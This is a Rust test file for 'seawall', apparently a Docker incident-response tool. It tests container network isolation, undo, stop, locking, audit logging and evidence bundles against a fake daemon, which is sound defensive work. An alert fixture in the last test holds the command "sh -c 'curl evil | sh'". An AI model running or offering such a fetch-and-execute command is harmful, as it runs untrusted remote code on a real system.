//! The actions against the fake daemon ([`crate::docker::fake`]): the isolate plan applied,
//! undo, vanished containers and failures half-way, without Docker.

use super::state_file::{RecordStatus, StateFile};
use super::*;
use crate::docker::fake::{FakeDocker, Op};
use crate::docker::{DockerError, Top};
use crate::model::ContainerState;

const ID: &str = "3f1c2a9b8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a";

struct Setup {
    fake: FakeDocker,
    runner: ActionRunner<FakeDocker>,
    dir: tempfile::TempDir,
}

impl Setup {
    fn new() -> Setup {
        let fake = FakeDocker::new();
        let mut web = FakeDocker::container(ID, "web", "running", &["back", "front"]);
        web.attachments[1].aliases = vec!["www".into(), "3f1c2a9b8d7e".into()];
        web.attachments[1].ipv4_address = Some("10.231.7.10".into());
        fake.add_container(web);
        fake.set_top(
            ID,
            Top {
                titles: vec!["PID".into(), "CMD".into()],
                processes: vec![vec!["1".into(), "sleep 1000".into()]],
            },
        );
        fake.set_logs(ID, b"2026-01-02T03:04:05Z hello\n");
        let dir = tempfile::tempdir().unwrap();
        let settings = ActionSettings {
            evidence_dir: dir.path().join("evidence"),
            export_dir: dir.path().join("reports"),
            audit_log: dir.path().join("audit.log"),
            state_file: dir.path().join("isolations.json"),
            stop_timeout: Duration::from_secs(2),
            ..ActionSettings::default()
        };
        let runner =
            ActionRunner::with_connector(fake.clone(), vec![FakeDocker::endpoint()], settings);
        Setup { fake, runner, dir }
    }

    fn target(&self) -> Target {
        Target {
            host: 0,
            endpoint: FakeDocker::endpoint().url,
            container_id: Some(ID.into()),
            name: "web".into(),
        }
    }

    async fn run(&self, kind: ActionKind) -> ActionOutcome {
        self.runner
            .run(ActionRequest::new(kind, self.target()))
            .await
    }

    fn state(&self) -> StateFile {
        StateFile::new(self.dir.path().join("isolations.json"))
    }

    fn networks(&self) -> Vec<String> {
        self.fake.get(ID).map(|c| c.networks).unwrap_or_default()
    }

    fn audit_lines(&self) -> usize {
        std::fs::read_to_string(self.dir.path().join("audit.log"))
            .map(|t| t.lines().count())
            .unwrap_or(0)
    }
}

#[tokio::test]
async fn isolate_then_undo_restores_every_network_with_its_aliases() {
    let s = Setup::new();
    let outcome = s.run(ActionKind::Isolate).await;
    let message = outcome.result.expect("isolated");
    assert!(
        message.starts_with("isolated web: disconnected from back, front"),
        "{message}"
    );
    assert!(s.networks().is_empty());
    assert_eq!(s.fake.count(Op::DisconnectNetwork), 2);
    assert_eq!(s.fake.count(Op::Pause), 0, "no pause unless asked");

    // The record holds what undo needs; the evidence bundle checks out.
    let record = s.state().find(&FakeDocker::endpoint().url, ID).unwrap();
    let record = record.expect("a record");
    assert_eq!(record.status, RecordStatus::Complete);
    let front = &record.networks[1];
    assert_eq!(front.aliases, vec!["www"], "the short-id alias is left out");
    let bundle = outcome.paths.first().expect("an evidence bundle");
    let manifest = evidence::verify(bundle).expect("the bundle matches its manifest");
    assert_eq!(manifest.container.name, "web");
    let top = std::fs::read_to_string(bundle.join("top.txt")).unwrap();
    assert_eq!(top, "PID\tCMD\n1\tsleep 1000\n");
    let logs = std::fs::read_to_string(bundle.join("logs.txt")).unwrap();
    assert!(logs.contains("hello"), "{logs}");

    // A second isolate is refused: nothing changes.
    let again = s.run(ActionKind::Isolate).await;
    assert_eq!(again.status, AuditOutcome::Refused);
    assert!(
        again
            .result
            .unwrap_err()
            .to_string()
            .contains("already isolated")
    );

    let undone = s.run(ActionKind::Unisolate).await;
    assert_eq!(
        undone.result.expect("undone"),
        "reconnected web to back, front"
    );
    assert_eq!(s.networks(), vec!["back", "front"]);
    let c = s.fake.get(ID).unwrap();
    assert_eq!(c.attachments[1].aliases, vec!["www"]);
    assert_eq!(
        c.attachments[1].ipv4_address.as_deref(),
        Some("10.231.7.10")
    );
    assert!(s.state().load().unwrap().isolations.is_empty());
    assert_eq!(s.audit_lines(), 3, "one audit line per attempt");
}

#[tokio::test]
async fn pause_on_isolate_is_undone() {
    let s = Setup::new();
    let mut request = ActionRequest::new(ActionKind::Isolate, s.target());
    request.options.pause = Some(true);
    let outcome = s.runner.run(request).await;
    assert!(outcome.result.unwrap().contains("; paused"));
    assert_eq!(s.fake.get(ID).unwrap().state, ContainerState::Paused);
    s.run(ActionKind::Unisolate).await.result.unwrap();
    assert_eq!(s.fake.get(ID).unwrap().state, ContainerState::Running);
    assert_eq!(s.fake.count(Op::Unpause), 1);
}

#[tokio::test]
async fn one_failed_disconnect_is_reported_and_undo_restores_the_rest() {
    let s = Setup::new();
    s.fake.fail(
        Op::DisconnectNetwork,
        Some("back"),
        DockerError::from_status(500, "driver failed\nprogramming"),
    );
    let outcome = s.run(ActionKind::Isolate).await;
    assert_eq!(outcome.status, AuditOutcome::Error);
    let m = outcome.result.unwrap_err().to_string();
    assert!(
        m.contains("disconnected from front")
            && m.contains("still attached to back: HTTP 500: driver failed programming")
            && m.contains("seawall unisolate web"),
        "{m}"
    );
    assert_eq!(s.networks(), vec!["back"], "front was cut, back stayed");
    let record = s
        .state()
        .find(&FakeDocker::endpoint().url, ID)
        .unwrap()
        .unwrap();
    assert_eq!(record.status, RecordStatus::Complete);
    assert_eq!(record.problems.len(), 1);

    // Undo: back is still attached (nothing to do), front comes back.
    s.fake.clear_failures();
    let undone = s.run(ActionKind::Unisolate).await.result.unwrap();
    assert_eq!(undone, "reconnected web to back, front");
    assert_eq!(s.fake.count(Op::ConnectNetwork), 1);
    assert_eq!(s.networks(), vec!["back", "front"]);
}

#[tokio::test]
async fn a_failed_reconnect_stays_in_the_record_for_the_next_try() {
    let s = Setup::new();
    s.run(ActionKind::Isolate).await.result.unwrap();
    s.fake.fail_times(
        Op::ConnectNetwork,
        Some("front"),
        DockerError::from_status(500, "no address left"),
        1,
    );
    let m = s
        .run(ActionKind::Unisolate)
        .await
        .result
        .unwrap_err()
        .to_string();
    assert!(
        m.contains("reconnected web to back") && m.contains("not reconnected to front"),
        "{m}"
    );
    let record = s
        .state()
        .find(&FakeDocker::endpoint().url, ID)
        .unwrap()
        .unwrap();
    assert_eq!(record.network_names(), "front");
    let again = s.run(ActionKind::Unisolate).await.result.unwrap();
    assert_eq!(again, "reconnected web to front");
    assert!(s.state().load().unwrap().isolations.is_empty());
}

#[tokio::test]
async fn a_container_removed_while_being_isolated_drops_its_record() {
    let s = Setup::new();
    s.fake
        .before(Op::DisconnectNetwork, |fake, _| fake.remove_container(ID));
    let outcome = s.run(ActionKind::Isolate).await;
    let m = outcome.result.unwrap_err().to_string();
    assert!(
        m.contains("web no longer exists") && m.contains("removed while"),
        "{m}"
    );
    assert_eq!(
        s.fake.count(Op::DisconnectNetwork),
        1,
        "stops at the first 404"
    );
    assert!(s.state().load().unwrap().isolations.is_empty());
}

#[tokio::test]
async fn actions_on_a_vanished_container_fail_clearly() {
    let s = Setup::new();
    s.fake.remove_container(ID);
    for kind in [ActionKind::Isolate, ActionKind::Stop] {
        let outcome = s.run(kind).await;
        let e = outcome.result.unwrap_err();
        assert!(matches!(e, ActionError::Gone { .. }), "{kind:?}: {e:?}");
        assert_eq!(
            e.to_string(),
            format!(
                "container {} no longer exists on unix:///fake/docker.sock",
                &ID[..12]
            )
        );
    }
    let undo = s.run(ActionKind::Unisolate).await;
    assert_eq!(
        undo.status,
        AuditOutcome::Refused,
        "no record: nothing to undo"
    );

    // Isolated, then removed: undo drops the record.
    let s = Setup::new();
    s.run(ActionKind::Isolate).await.result.unwrap();
    s.fake.remove_container(ID);
    let m = s
        .run(ActionKind::Unisolate)
        .await
        .result
        .unwrap_err()
        .to_string();
    assert!(m.contains("web no longer exists"), "{m}");
    assert!(s.state().load().unwrap().isolations.is_empty());
}

#[tokio::test]
async fn host_network_is_refused_and_nothing_is_called() {
    let s = Setup::new();
    let mut c = FakeDocker::container(ID, "web", "running", &["host"]);
    c.network_mode = "host".into();
    s.fake.add_container(c);
    let outcome = s.run(ActionKind::Isolate).await;
    assert_eq!(outcome.status, AuditOutcome::Refused);
    assert!(
        outcome
            .result
            .unwrap_err()
            .to_string()
            .contains("--network host")
    );
    assert_eq!(s.fake.count(Op::DisconnectNetwork), 0);
    assert!(s.state().load().unwrap().isolations.is_empty());
}

#[tokio::test]
async fn stop_reports_how_it_ended_and_refuses_a_stopped_container() {
    let s = Setup::new();
    let m = s.run(ActionKind::Stop).await.result.unwrap();
    assert!(m.starts_with("stopped web within the grace period"), "{m}");
    assert!(m.contains("exit code 143"), "{m}");
    let again = s.run(ActionKind::Stop).await;
    assert_eq!(again.status, AuditOutcome::Refused);
    assert!(
        again
            .result
            .unwrap_err()
            .to_string()
            .contains("web is not running (exited)")
    );
}

#[tokio::test]
async fn a_denied_stop_names_the_permission_problem() {
    let s = Setup::new();
    s.fake.fail(
        Op::Stop,
        None,
        DockerError::from_status(403, "authorization denied by plugin"),
    );
    let e = s.run(ActionKind::Stop).await.result.unwrap_err();
    assert!(matches!(e, ActionError::Denied(_)), "{e:?}");
    assert!(
        e.to_string()
            .contains("does not allow this user to stop web")
    );
}

#[tokio::test]
async fn refused_is_said_only_when_the_daemon_answered_with_an_error() {
    let s = Setup::new();
    s.fake.fail(
        Op::Stop,
        None,
        DockerError::from_status(500, "cannot stop container: permission denied"),
    );
    let e = s.run(ActionKind::Stop).await.result.unwrap_err();
    assert!(
        e.to_string()
            .contains("refused to stop web: HTTP 500: cannot stop container"),
        "{e}"
    );
    for (failure, words) in [
        (DockerError::Timeout, "the request timed out"),
        (
            DockerError::Malformed("expected value at line 1".into()),
            "was not the JSON seawall expects",
        ),
    ] {
        let s = Setup::new();
        s.fake.fail(Op::Stop, None, failure);
        let text = s
            .run(ActionKind::Stop)
            .await
            .result
            .unwrap_err()
            .to_string();
        assert!(!text.contains("refused"), "{text}");
        assert!(
            text.starts_with("could not stop web: the daemon at ") && text.contains(words),
            "{text}"
        );
    }
}

#[tokio::test]
async fn an_unreachable_daemon_changes_nothing() {
    let s = Setup::new();
    s.fake.fail(
        Op::Connect,
        None,
        DockerError::Unreachable("refused".into()),
    );
    let e = s.run(ActionKind::Isolate).await.result.unwrap_err();
    assert!(matches!(e, ActionError::Unreachable(_)), "{e:?}");
    assert!(e.to_string().contains("cannot reach the Docker daemon"));
    assert_eq!(s.fake.count(Op::DisconnectNetwork), 0);
}

#[tokio::test]
async fn containers_are_found_like_the_docker_cli_finds_them() {
    let s = Setup::new();
    s.fake.add_container(FakeDocker::container(
        "3f1c99",
        "web-2",
        "exited",
        &["bridge"],
    ));
    let t = s.runner.find_container("web").await.unwrap();
    assert_eq!(t.container_id.as_deref(), Some(ID));
    let t = s.runner.find_container("3f1c2").await.unwrap();
    assert_eq!(t.name, "web");
    let e = s
        .runner
        .find_container("3f1c")
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("ambiguous"), "{e}");
    let e = s.runner.find_container("nope").await.unwrap_err();
    assert!(matches!(e, ActionError::NoMatch(_)), "{e:?}");
}

impl Setup {
    /// The audit log as read back.
    fn audit(&self) -> audit::ParsedLog {
        audit::read(&self.dir.path().join("audit.log")).unwrap()
    }

    fn record(&self) -> Option<state_file::IsolationRecord> {
        self.state().find(&FakeDocker::endpoint().url, ID).unwrap()
    }
}

#[tokio::test]
async fn a_reconnect_the_daemon_answers_ok_but_does_not_make_is_not_a_success() {
    let s = Setup::new();
    s.run(ActionKind::Isolate).await.result.unwrap();
    // Docker answers OK for front but makes no endpoint.
    s.fake.connect_without_endpoint("front");
    let outcome = s.run(ActionKind::Unisolate).await;
    assert_eq!(outcome.status, AuditOutcome::Error);
    let m = outcome.result.unwrap_err().to_string();
    assert!(
        m.contains("reconnected web to back")
            && m.contains("not reconnected to front: the daemon answered OK but")
            && m.contains("no endpoint")
            && m.contains("front still to restore"),
        "{m}"
    );
    assert_eq!(
        s.record().expect("the record stays").network_names(),
        "front"
    );
    assert_eq!(
        s.audit().entries.last().unwrap().outcome,
        AuditOutcome::Error
    );

    // Next try: the stale entry is disconnected first, then front really comes back.
    s.fake.clear_failures();
    let before = s.fake.count_on(Op::DisconnectNetwork, "front");
    let m = s.run(ActionKind::Unisolate).await.result.unwrap();
    assert_eq!(m, "reconnected web to front");
    assert_eq!(s.fake.count_on(Op::DisconnectNetwork, "front"), before + 1);
    let c = s.fake.get(ID).unwrap();
    assert!(c.attachments.iter().all(|a| !a.endpoint_id.is_empty()));
    assert!(s.record().is_none(), "removed once every network is back");
    let outcomes: Vec<AuditOutcome> = s.audit().entries.iter().map(|e| e.outcome).collect();
    assert_eq!(
        outcomes,
        [AuditOutcome::Ok, AuditOutcome::Error, AuditOutcome::Ok]
    );
}

#[tokio::test]
async fn a_stale_entry_after_a_failed_reconnect_is_not_taken_for_an_attachment() {
    // The repro on the fake: the reconnect fails (address in use) and leaves an
    // entry with no endpoint, as Docker 20.10 does.
    let s = Setup::new();
    s.run(ActionKind::Isolate).await.result.unwrap();
    s.fake.fail_times(
        Op::ConnectNetwork,
        Some("front"),
        DockerError::from_status(500, "Address already in use"),
        1,
    );
    let once = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let first = once.clone();
    s.fake.before(Op::ConnectNetwork, move |fake, net| {
        if net == "front" && !first.swap(true, std::sync::atomic::Ordering::SeqCst) {
            fake.leave_stale_entry(ID, "front");
        }
    });
    let m = s
        .run(ActionKind::Unisolate)
        .await
        .result
        .unwrap_err()
        .to_string();
    assert!(
        m.contains("not reconnected to front: HTTP 500: Address already in use"),
        "{m}"
    );
    assert!(
        s.fake
            .get(ID)
            .unwrap()
            .networks
            .contains(&"front".to_string()),
        "the daemon shows front in the container's inspect"
    );
    assert_eq!(s.record().unwrap().network_names(), "front");

    // Again: the entry is not an attachment; it is replaced by a real one.
    let m = s.run(ActionKind::Unisolate).await.result.unwrap();
    assert_eq!(m, "reconnected web to front");
    let front = s.fake.get(ID).unwrap();
    let front = front
        .attachments
        .iter()
        .find(|a| a.name == "front")
        .unwrap();
    assert_eq!(front.endpoint_id, "ep-front");
    assert_eq!(front.aliases, vec!["www"]);
    assert!(s.record().is_none());
}

#[tokio::test]
async fn a_network_that_does_not_list_the_container_is_not_restored() {
    let s = Setup::new();
    s.run(ActionKind::Isolate).await.result.unwrap();
    s.fake.fail(
        Op::InspectNetwork,
        Some("net-back"),
        DockerError::from_status(500, "network unreadable"),
    );
    let m = s
        .run(ActionKind::Unisolate)
        .await
        .result
        .unwrap_err()
        .to_string();
    assert!(
        m.contains("reconnected web to front")
            && m.contains("not reconnected to back")
            && m.contains("network back cannot be read"),
        "{m}"
    );
    assert_eq!(s.record().unwrap().network_names(), "back");
}

#[tokio::test]
async fn a_stopped_container_is_reconnected_by_its_configuration() {
    let s = Setup::new();
    s.fake.add_container({
        let mut c = FakeDocker::container(ID, "web", "exited", &["back", "front"]);
        for a in &mut c.attachments {
            a.endpoint_id.clear();
        }
        c
    });
    s.run(ActionKind::Isolate).await.result.unwrap();
    let m = s.run(ActionKind::Unisolate).await.result.unwrap();
    assert_eq!(
        m,
        "reconnected web to back, front (it is exited: the endpoints are made when it starts)"
    );
    assert!(s.record().is_none());
}

/// Poll a future once: the refusals of a busy lock never wait for anything.
fn ready<F: std::future::Future>(f: F) -> F::Output {
    let mut f = std::pin::pin!(f);
    let mut cx = std::task::Context::from_waker(std::task::Waker::noop());
    match f.as_mut().poll(&mut cx) {
        std::task::Poll::Ready(out) => out,
        std::task::Poll::Pending => panic!("the refusal waited"),
    }
}

#[tokio::test]
async fn a_second_action_on_the_same_container_is_refused_while_the_first_runs() {
    let s = Setup::new();
    let second = std::sync::Arc::new(ActionRunner::with_connector(
        s.fake.clone(),
        vec![FakeDocker::endpoint()],
        s.runner.settings().clone(),
    ));
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let (runner2, seen2, target) = (second.clone(), seen.clone(), s.target());
    // While the first isolate disconnects, a second isolate and a stop arrive.
    s.fake.before(Op::DisconnectNetwork, move |_, _| {
        for kind in [ActionKind::Isolate, ActionKind::Stop] {
            let outcome = ready(runner2.run(ActionRequest::new(kind, target.clone())));
            seen2.lock().unwrap().push(outcome);
        }
    });
    let first = s.run(ActionKind::Isolate).await;
    first.result.expect("the first one acts");
    let seen = seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 4, "two disconnects, two attempts each");
    for o in &seen {
        assert_eq!(o.status, AuditOutcome::Refused);
        let m = o.result.as_ref().unwrap_err().to_string();
        assert!(
            m.starts_with("another seawall is acting on web (isolate since "),
            "{m}"
        );
    }
    assert_eq!(s.fake.count(Op::Stop), 0, "the stop did nothing");
    assert_eq!(s.fake.count(Op::DisconnectNetwork), 2, "one isolation only");
    let record = s.record().unwrap();
    assert_eq!(
        record.evidence.as_ref(),
        first.paths.first(),
        "the winner's evidence"
    );
    let bundles = std::fs::read_dir(s.dir.path().join("evidence"))
        .unwrap()
        .count();
    assert_eq!(bundles, 1);
    let log = s.audit();
    let refused = log
        .entries
        .iter()
        .filter(|e| e.outcome == AuditOutcome::Refused)
        .count();
    assert_eq!((log.entries.len(), refused), (5, 4));

    // Once the first is done, the lock is free again.
    let undone = second
        .run(ActionRequest::new(ActionKind::Unisolate, s.target()))
        .await;
    assert!(undone.result.is_ok(), "{:?}", undone.result);
}

#[tokio::test]
async fn a_lock_held_by_another_process_refuses_with_its_holder() {
    let s = Setup::new();
    let holder = lock::Holder {
        action: "stop".into(),
        container_name: "web".into(),
        pid: 4242,
        since: "2026-01-02T03:04:05Z".into(),
    };
    let held = lock::acquire(
        &s.runner.lock_dir(),
        &FakeDocker::endpoint().url,
        ID,
        "web",
        &holder,
    )
    .unwrap();
    let outcome = s.run(ActionKind::Isolate).await;
    assert_eq!(outcome.status, AuditOutcome::Refused);
    assert_eq!(
        outcome.result.unwrap_err().to_string(),
        "another seawall is acting on web (stop since 2026-01-02T03:04:05Z, pid 4242); \
         nothing was done, try again when it is finished"
    );
    assert_eq!(s.fake.count(Op::Inspect), 0, "not even read");
    assert!(s.record().is_none());
    drop(held);
    s.run(ActionKind::Isolate).await.result.unwrap();
}

#[tokio::test]
async fn forget_clears_the_record_of_a_container_that_is_gone_and_only_then() {
    let s = Setup::new();
    let outcome = s.run(ActionKind::Isolate).await;
    let evidence = outcome.paths[0].clone();

    // Still there: refused, the record stays.
    let (target, record) = s.runner.find_record("web").unwrap();
    assert_eq!(target.container_id.as_deref(), Some(ID));
    assert_eq!(record.container_name, "web");
    let (r, status) = s.runner.forget(&target).await;
    assert_eq!(status, AuditOutcome::Refused);
    let m = r.unwrap_err().to_string();
    assert!(
        m.contains("web (id 3f1c2a9b8d7e) still exists") && m.contains("seawall unisolate web"),
        "{m}"
    );
    assert!(s.record().is_some());

    // Gone: found by name, by id prefix; cleared, audited.
    s.fake.remove_container(ID);
    assert_eq!(s.runner.find_record("3f1c2a").unwrap().0, target);
    let (r, status) = s.runner.forget(&target).await;
    assert_eq!(status, AuditOutcome::Ok);
    let m = r.unwrap();
    assert!(
        m.starts_with("forgot the isolation record of web (id 3f1c2a9b8d7e)")
            && m.contains(&evidence.display().to_string()),
        "{m}"
    );
    assert!(s.record().is_none());
    let last = s.audit().entries.pop().unwrap();
    assert_eq!(
        (
            last.action.as_str(),
            last.outcome,
            last.container_id.as_deref()
        ),
        ("forget", AuditOutcome::Ok, Some(ID))
    );
    let e = s.runner.find_record("web").unwrap_err().to_string();
    assert!(e.contains("no isolation record matches \"web\""), "{e}");
    assert!(evidence.is_dir(), "the evidence stays");
}

#[tokio::test]
async fn undo_of_a_new_container_with_an_old_name_points_at_the_old_record() {
    let s = Setup::new();
    s.run(ActionKind::Isolate).await.result.unwrap();
    s.fake.remove_container(ID);
    s.fake
        .add_container(FakeDocker::container("99aa", "web", "running", &["back"]));
    let target = s.runner.find_container("web").await.unwrap();
    let outcome = s
        .runner
        .run(ActionRequest::new(ActionKind::Unisolate, target))
        .await;
    let m = outcome.result.unwrap_err().to_string();
    assert!(
        m.contains("not isolated by seawall")
            && m.contains("earlier container named web (id 3f1c2a9b8d7e)")
            && m.contains("seawall unisolate --forget 3f1c2a9b8d7e"),
        "{m}"
    );
}

/// The console's alerts about the container go into the evidence bundle (listed in its
/// manifest) and beside an exported report.
#[tokio::test]
async fn the_consoles_alerts_go_into_the_bundle_and_the_export() {
    let s = Setup::new();
    let alert = crate::activity::Alert {
        time: chrono::Utc::now(),
        container: Some(crate::activity::ContainerRef {
            id: ID.into(),
            name: "web".into(),
        }),
        rule: "SW-ACT-EXEC-001".into(),
        severity: crate::risk::Severity::High,
        title: "Shell in container".into(),
        detail: "sh -c 'curl evil | sh'".into(),
        technique: "T1059.004".into(),
        score_bump: 10,
    };
    let with_alerts = |kind| {
        let mut r = ActionRequest::new(kind, s.target());
        r.options.alerts = Some(vec![alert.clone()]);
        r
    };
    let outcome = s.runner.run(with_alerts(ActionKind::Isolate)).await;
    assert!(outcome.result.is_ok(), "{outcome:?}");
    let bundle = outcome.paths.first().expect("a bundle");
    let manifest = evidence::verify(bundle).expect("the bundle matches its manifest");
    assert!(
        manifest.files.iter().any(|f| f.name == "alerts.json"),
        "{manifest:?}"
    );
    let text = std::fs::read_to_string(bundle.join("alerts.json")).unwrap();
    assert!(
        text.contains("SW-ACT-EXEC-001") && text.contains("curl evil"),
        "{text}"
    );

    // The export (which reads the daemon through the real connector) writes them beside
    // its first report file.
    let first = s.dir.path().join("reports").join("host-web-20261203.json");
    std::fs::create_dir_all(first.parent().unwrap()).unwrap();
    let file = &super::export::write_alerts(&first, std::slice::from_ref(&alert)).unwrap();
    assert_eq!(file.file_name().unwrap(), "host-web-20261203.alerts.json");
    let back: Vec<crate::activity::Alert> =
        serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    assert_eq!(back, vec![alert]);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(file).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
}
